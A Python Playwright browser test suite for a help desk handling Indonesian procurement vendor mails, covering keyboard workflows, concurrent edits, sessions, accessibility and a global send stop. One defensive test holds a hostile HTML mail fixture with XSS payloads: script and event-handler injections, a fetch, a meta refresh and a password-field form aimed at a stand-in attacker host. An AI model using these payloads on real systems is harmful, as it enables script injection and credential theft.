"""Staff at work: the keyboard through whole queues, two people at one ticket, lost sessions, hostile mails."""

from __future__ import annotations

import re

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect
from sqlalchemy import update

from responder.config import load
from responder.tickets.database import Database
from responder.tickets.models_staff import Session
from tests.browser.conftest import Desk, log_in
from tests.scenarios.installation import plain_text

PASSWORD_LOST = (
    "Selamat pagi, kami lupa password akun LPSE. User ID masih ada. Bagaimana cara mereset password-nya?"
)
QUICK_TENDER = "Mohon penjelasan syarat mengikuti tender cepat. Data kami di SIKaP belum berstatus verified."
INTEGRATION = "Bagaimana cara integrasi akun SPSE kami dengan SIKaP? Kami belum tahu langkahnya."
COMPLAINT = "Kami sangat kecewa dengan pelayanan LPSE. Kami akan melaporkan hal ini ke Ombudsman."


def heading(page: Page, number: int) -> None:
    expect(page.get_by_role("heading", level=1)).to_contain_text(f"#{number} ")


def sessions_end(desk: Desk) -> None:
    """Every log-in is over, as after a night."""
    database = Database(load(desk.office.config).database.url)
    with database.begin() as connection:
        connection.execute(update(Session).values(expires_at=Session.created_at))
    database.close()


def test_a_whole_queue_is_decided_with_the_keyboard_alone(desk: Desk) -> None:
    desk.account("sari")
    approved = desk.receive("Lupa password", PASSWORD_LOST, sender="a@satu.example")
    edited = desk.receive("Tender cepat", QUICK_TENDER, sender="b@dua.example")
    retopiced = desk.receive("Integrasi", INTEGRATION, sender="c@tiga.example")
    rejected = desk.receive("Password hilang", PASSWORD_LOST, sender="d@empat.example")
    page = desk.browser("sari")
    page.get_by_role("link", name=re.compile("Lupa password")).first.press("Enter")
    heading(page, approved)

    page.keyboard.press("a")
    heading(page, edited)  # the next one is there at once
    expect(page.get_by_role("status").first).to_contain_text(f"#{approved}")

    page.keyboard.press("e")
    text = page.get_by_label("Teks balasan")
    expect(text).to_be_focused()
    text.fill("Yth. Penyedia,\n\nJawaban yang disunting petugas.\n")
    page.get_by_role("button", name="Simpan dan setujui").click()
    heading(page, retopiced)

    page.keyboard.press("2")
    expect(page.get_by_role("button", name=re.compile("^2 "))).to_have_attribute("aria-pressed", "true")
    page.keyboard.press("n")
    page.keyboard.type("Sudah ditelepon.")
    page.get_by_role("button", name="Simpan catatan").press("Enter")
    expect(page.get_by_text("Sudah ditelepon.")).to_be_visible()
    page.keyboard.press("s")
    heading(page, rejected)

    page.keyboard.press("x")
    page.get_by_role("button", name="Tolak konsep; petugas menjawab").press("Enter")
    heading(page, retopiced)

    desk.waits(lambda: len(desk.office.replies_to("a@satu.example")) == 1, "the approved reply at the vendor")
    desk.waits(lambda: len(desk.office.replies_to("b@dua.example")) == 1, "the edited reply at the vendor")
    (mail,) = desk.office.replies_to("b@dua.example")
    assert "Jawaban yang disunting petugas." in plain_text(mail)
    assert desk.office.replies_to("d@empat.example") == []
    states = {row["id"]: row["status"] for row in desk.office.tickets()}
    assert states == {
        approved: "answered", edited: "answered", retopiced: "needs_approval", rejected: "needs_staff"
    }  # fmt: skip


def test_an_approval_is_taken_back_within_the_undo_window(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("sari")
    page.goto(f"/tiket/{ticket}")
    page.keyboard.press("a")
    expect(page.get_by_role("status").first).to_contain_text("disetujui")
    page.keyboard.press("u")
    expect(page.get_by_role("button", name=re.compile("^Setujui"))).to_be_enabled()
    assert [reply["subject"] for reply in desk.office.drafts_of(ticket)]
    assert desk.office.replies_to() == []


def test_who_approves_what_a_colleague_has_changed_is_shown_the_difference(desk: Desk) -> None:
    desk.account("sari")
    desk.account("budi")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    sari, budi = desk.browser("sari"), desk.browser("budi")
    sari.goto(f"/tiket/{ticket}")
    budi.goto(f"/tiket/{ticket}")
    expect(budi.get_by_text("sari")).to_be_visible()  # who else looks at it

    budi.keyboard.press("e")
    budi.get_by_label("Teks balasan").fill("Teks dari Budi.")
    budi.get_by_role("button", name="Simpan konsep").click()
    expect(budi.locator("#draft-text")).to_have_text(re.compile("Teks dari Budi."))

    sari.keyboard.press("a")
    alert = sari.get_by_role("alert")
    expect(alert).to_contain_text("konsep berubah sejak ditampilkan")
    expect(alert).to_contain_text("Teks dari Budi.")
    assert desk.office.replies_to() == []
    sari.keyboard.press("a")  # now it is the text that she was shown
    desk.waits(lambda: len(desk.office.replies_to()) == 1, "one reply at the vendor")
    assert "Teks dari Budi." in plain_text(desk.office.replies_to()[0])


def test_a_vendor_who_writes_again_while_the_draft_is_read_makes_the_approval_fail(desk: Desk) -> None:
    desk.account("sari")
    first = desk.office.deliver("Lupa password", PASSWORD_LOST)
    desk.waits(lambda: bool(desk.office.tickets()), "the ticket")
    (ticket,) = desk.office.tickets()
    desk.waits(lambda: bool(desk.office.drafts_of(ticket["id"])), "the draft")
    page = desk.browser("sari")
    page.goto(f"/tiket/{ticket['id']}")
    tag = desk.office.drafts_of(ticket["id"])[0]["subject"]
    desk.office.deliver(
        tag, "Maaf, ternyata user ID kami juga hilang.", headers={"In-Reply-To": f"<{first}>"}
    )
    desk.waits(lambda: len(desk.office.show(ticket["id"])["messages"]) == 2, "the second mail in the ticket")
    page.keyboard.press("a")
    expect(page.get_by_role("alert")).to_be_visible()
    assert desk.office.replies_to() == []


def test_what_was_typed_survives_the_end_of_the_session(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("sari")
    page.goto(f"/tiket/{ticket}")
    page.keyboard.press("e")
    text = page.get_by_label("Teks balasan")
    sessions_end(desk)
    text.fill("Ditulis setelah sesi berakhir.")
    page.get_by_role("button", name="Simpan konsep").click()
    expect(page.get_by_text("Sesi berakhir")).to_be_visible()
    log_in(page, "sari")
    page.goto(f"/tiket/{ticket}/sunting")
    expect(page.get_by_label("Teks balasan")).to_have_value(re.compile("Ditulis setelah sesi berakhir"))
    assert desk.office.replies_to() == []


def test_a_closed_window_loses_nothing_that_was_typed(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("sari")
    page.goto(f"/tiket/{ticket}/sunting")
    page.get_by_label("Teks balasan").fill("Setengah kalimat yang")
    page.locator("#teks").blur()
    expect(page.locator("#saved")).to_contain_text("Tersimpan")
    other = page.context.new_page()
    page.close()
    other.goto(f"/tiket/{ticket}/sunting")
    expect(other.get_by_label("Teks balasan")).to_have_value(re.compile("Setengah kalimat yang"))


def test_reading_and_approving_need_no_scripts(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("sari", java_script_enabled=False)
    page.get_by_role("link", name=re.compile("Lupa password")).click()
    heading(page, ticket)
    page.get_by_role("button", name=re.compile("^Setujui")).click()
    desk.waits(lambda: len(desk.office.replies_to()) == 1, "the reply at the vendor")


HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://jahat.example/segar">
<base href="http://jahat.example/"><link rel="stylesheet" href="http://jahat.example/gaya.css">
<style>@import url(http://jahat.example/impor.css); body{background:url(http://jahat.example/latar.png)}
#tutup{position:fixed;inset:0;z-index:9999;background:red}</style></head><body onload="document.title='dibobol'">
<script>parent.document.title='dibobol';fetch('http://jahat.example/naskah')</script>
<div id="tutup">menutupi</div><img src="http://jahat.example/piksel.png" onerror="parent.document.title='dibobol'">
<svg onload="parent.document.title='dibobol'"></svg><iframe src="http://jahat.example/bingkai"></iframe>
<form action="http://jahat.example/kirim"><input name=sandi autofocus onfocus="parent.document.title='dibobol'"></form>
<a href="javascript:parent.document.title='dibobol'">klik di sini</a> <a href="http://jahat.example/tautan">tautan</a>
<p>Kami lupa password akun LPSE. Bagaimana cara mereset password-nya?</p></body></html>"""


def test_a_hostile_mail_does_nothing_in_the_browser_of_staff(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive(
        "Lupa password <script>document.title='dibobol'</script>",
        "Kami lupa password akun LPSE. <img src=x onerror=alert(1)>",
        html=HOSTILE,
        name="<b>Nama</b>",
    )
    page = desk.browser("sari")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"/tiket/{ticket}")
    page.get_by_text("Tampilan asli").click()
    frame = page.frame_locator("section.mail iframe")
    expect(frame.get_by_text("Kami lupa password akun LPSE.").first).to_be_visible()
    link = frame.get_by_text("klik di sini")
    if link.count():
        link.click(force=True)
    expect(frame.locator("script, iframe, form, meta[http-equiv=refresh]")).to_have_count(0)
    expect(page).to_have_title(re.compile(r"^#\d+ Lupa password <script>"))
    assert page.url.endswith(f"/tiket/{ticket}")
    assert dialogs == []
    assert desk.foreign == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_passes_axe(desk: Desk, scheme: str) -> None:
    desk.account("rini", "admin")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    flagged = desk.receive("KECEWA", COMPLAINT, sender="x@lain.example")
    page = desk.browser(color_scheme=scheme)
    axe, found = Axe(), []
    for path in ("", "/", f"/tiket/{ticket}", f"/tiket/{flagged}", f"/tiket/{ticket}/sunting", "/bantuan", "/saya",
                 "/akun", "/laporan", "/topik", "/cari?kata=password", "/antrean?antrean=closed"):  # fmt: skip
        if path == "/":
            log_in(page, "rini")
        if path:
            page.goto(path)
        for violation in axe.run(page).response["violations"]:
            if violation["impact"] in {"serious", "critical"}:
                nodes = [node["html"][:120] for node in violation["nodes"]]
                found.append(f"{path or 'log-in'}: {violation['id']}: {nodes}")
    assert found == []


def test_a_phone_shows_mail_and_draft_without_scrolling_sideways(desk: Desk) -> None:
    desk.account("sari")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("sari", viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True)
    for path in ("/", f"/tiket/{ticket}", f"/tiket/{ticket}/sunting"):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
    page.goto(f"/tiket/{ticket}")
    page.get_by_role("button", name=re.compile("^Setujui")).tap()
    desk.waits(lambda: len(desk.office.replies_to()) == 1, "the reply at the vendor")


def test_one_click_stops_every_send(desk: Desk) -> None:
    desk.account("budi", "senior")
    ticket = desk.receive("Lupa password", PASSWORD_LOST)
    page = desk.browser("budi")
    page.get_by_role("button", name="Hentikan semua pengiriman").click()
    expect(page.get_by_text("Pengiriman dihentikan")).to_be_visible()
    desk.office.run("approve", str(ticket), "--yes")
    desk.waits(lambda: not desk.office.drafts_of(ticket), "the approval")
    page.get_by_role("button", name="Aktifkan pengiriman").click()
    desk.waits(lambda: len(desk.office.replies_to()) == 1, "the held reply, once sending is allowed again")
    actions = [event["actor"] for event in desk.office.show(ticket)["events"]]
    assert any("terminal" in actor for actor in actions)
